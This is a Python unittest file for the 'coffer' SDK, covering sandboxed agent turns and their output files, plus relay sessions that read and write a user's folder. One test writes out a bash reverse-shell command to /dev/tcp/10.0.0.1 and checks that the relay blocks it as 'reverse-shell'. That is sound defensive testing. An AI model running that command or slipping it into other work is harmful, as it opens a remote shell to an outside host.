"""Turns and relay sessions through the SDK: a turn's calls, returned files, the
streamed call and its end; a relay session served by a real `coffer connect`
($COFFER_BIN) with its ops, events, log and abort."""

from __future__ import annotations

import os
import subprocess
import tempfile
import unittest

import coffer
from support import client, name, wait_for


class TurnCalls(unittest.TestCase):
    def setUp(self) -> None:
        self.c = client()
        self.agent = self.c.agents.upsert(name("turner"), sandbox={"scratch": "64m"})

    def tearDown(self) -> None:
        self.c.close()

    def test_turn_call_files_stream_end(self) -> None:
        turn = self.c.turns.create(self.agent.id, "ann", 600, accepted_output_modes=["text/csv"])
        assert turn.info is not None
        self.assertEqual((turn.info.agent, turn.info.user), (self.agent.id, "ann"))
        out = turn.call("echo a,b > $OUTBOX/t.csv; echo kept > keep.txt; echo hi; cat",
                        stdin="from stdin\n", timeout_seconds=60)
        self.assertEqual(out.exit_code, 0, out.stderr)
        self.assertEqual(out.stdout, "hi\nfrom stdin\n")
        self.assertEqual([(f.name, f.media_type, f.size) for f in out.files], [("t.csv", "text/csv", 4)])
        self.assertIn("attached t.csv (text/csv, 4 bytes) to the answer", out.notes)
        f = turn.file(out.call_id, "t.csv")
        self.assertEqual((f.data, f.content_type.split(";")[0]), (b"a,b\n", "text/csv"))
        with turn.open_file(out.call_id, "t.csv") as d:
            self.assertEqual((d.read(), d.size), (b"a,b\n", 4))
        again = turn.call("cat keep.txt; exit 3")
        self.assertEqual((again.exit_code, again.stdout), (3, "kept\n"))
        self.assertEqual(turn.get().calls, 2)
        with turn.call_stream("echo one; echo two >&2") as events:
            seen = list(events)
        kinds = [e.type for e in seen]
        self.assertEqual(kinds[-1], "exit")
        self.assertIn("stdout", kinds)
        self.assertEqual(seen[-1].data["exitCode"], 0)
        self.assertEqual("".join(e.data["data"] for e in seen if e.type == "stdout"), "one\n")
        turn.end()
        with self.assertRaises(coffer.Gone):
            turn.call("true")

    def test_call_files_as_a2a_artifacts(self) -> None:
        # seed 000: each kept file streams as an A2A artifact named file, its bytes, media
        # type and filename in one part and the tool call's id under metadata.call_id;
        # acceptedOutputModes keeps only the types it lists
        turn = self.c.turns.create(self.agent.id, "ann", 600)
        with turn.call_stream("printf 'a,b\\n' > $OUTBOX/t.csv; printf x > $OUTBOX/n.txt",
                              call_id="toolu_01", accepted_output_modes=["text/csv"]) as events:
            seen = list(events)
        arts = [a for a in map(coffer.Artifact.of, seen) if a is not None]
        self.assertEqual([(a.artifact_id, a.name, a.media_type, a.data, a.call_id) for a in arts],
                         [("toolu_01/t.csv", "t.csv", "text/csv", b"a,b\n", "toolu_01")])
        art = next(e for e in seen if e.type == "artifact")
        self.assertEqual(art.data["name"], "file")
        self.assertIsNone(coffer.Artifact.of(seen[-1]))
        self.assertEqual(seen[-1].type, "exit")
        self.assertEqual(seen[-1].data["callId"], "toolu_01")
        out = turn.call("printf y > $OUTBOX/m.csv", call_id="toolu_02")
        self.assertEqual((out.call_id, [f.name for f in out.files]), ("toolu_02", ["m.csv"]))
        with self.assertRaises(TypeError):
            turn.call("true", accepted_output_modes="text/csv")
        turn.end()
        with self.assertRaises(coffer.NotFound):
            self.c.turns("turn_nosuch").get()


class RelayCalls(unittest.TestCase):
    def setUp(self) -> None:
        self.c = client()
        self.agent = self.c.agents.upsert(name("relayer"), relay={"capability": True,
                                                                  "defaultMode": "standard"})
        self.dir = tempfile.mkdtemp(prefix="sdk-relay-")
        with open(os.path.join(self.dir, "readme.md"), "w") as f:
            f.write("hello from the user's folder\nsecond line\n")
        with open(os.path.join(self.dir, ".env"), "w") as f:
            f.write("SECRET=1\n")
        self.proc: subprocess.Popen[bytes] | None = None

    def tearDown(self) -> None:
        if self.proc is not None and self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(10)
        self.c.close()

    def connect(self, session: coffer.RelaySession) -> None:
        exe = os.environ.get("COFFER_BIN")
        if not exe:
            self.skipTest("COFFER_BIN (the coffer binary, for coffer connect) is not set")
        env = dict(os.environ, COFFER_CONNECT_TOKEN=session.connect_token or "")
        log = tempfile.TemporaryFile()
        self.addCleanup(log.close)
        self.proc = subprocess.Popen([exe, "connect", "--server", self.c.url, "--uid",
                                      session.uid, "--dir", self.dir], env=env,
                                     stdin=subprocess.DEVNULL, stdout=log, stderr=log,
                                     start_new_session=True)
        if not wait_for(lambda: session.get().status == "active", 20):
            log.seek(0)
            self.fail("coffer connect did not attach (exit %r); it said:\n%s"
                      % (self.proc.poll(), log.read().decode(errors="replace")))

    def test_session_ops_events_log_abort(self) -> None:
        s = self.c.relay.create(self.agent.id, limits={"writes": 10})
        self.assertTrue((s.connect_token or "").startswith("rct_"))
        self.assertEqual(s.info and s.info.status, "waiting")
        self.assertIn(s.uid, [x.uid for x in self.c.relay.list(agent=self.agent.id)])
        with client(retries=0) as once, self.assertRaises(coffer.Unavailable):
            once.relay(s.uid).read_file("readme.md")
        self.connect(s)
        r = s.read_file("readme.md")
        self.assertEqual((r["content"], r["encoding"]), ("hello from the user's folder\nsecond line\n", "utf-8"))
        w = s.write_file("out/answer.txt", "written by the agent")
        self.assertEqual(w["size"], 20)
        with open(os.path.join(self.dir, "out", "answer.txt")) as f:
            self.assertEqual(f.read(), "written by the agent")
        names = sorted(e["name"] for e in s.list_directory()["entries"])
        self.assertEqual(names, ["out", "readme.md"])
        found = s.search_files("second")
        self.assertEqual([(x["file"], x["line"]) for x in found["results"]], [("readme.md", 2)])
        with self.assertRaises(coffer.Forbidden):
            s.read_file(".env")
        with self.assertRaises(coffer.Blocked) as cm:
            s.write_file("run.sh", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n")
        self.assertEqual(cm.exception.category, "reverse-shell")
        self.assertEqual(s.get().counts.writes, 1)
        with self.assertRaises(coffer.NotFound):
            s.op_status("op_nosuch")
        log = s.log()
        self.assertIn("write_file", [e.get("op") for e in log["entries"]])
        s.abort()
        with s.events(timeout=20) as events:
            kinds = [e.type for e in events]
        self.assertEqual(kinds[0], "status_changed")
        for k in ("write_result", "write_blocked", "abort", "session_ended"):
            self.assertIn(k, kinds)
        self.assertEqual(kinds[-1], "session_ended")
        with self.assertRaises(coffer.Gone):
            s.read_file("readme.md")
        self.assertEqual(s.get().end_reason, "aborted")

    def test_session_closed_by_the_agent(self) -> None:
        s = self.c.relay.create(self.agent.id)
        ended = s.close()
        self.assertEqual(ended.end_reason, "closed")
        with self.assertRaises(coffer.Gone):
            s.close()


if __name__ == "__main__":
    unittest.main()
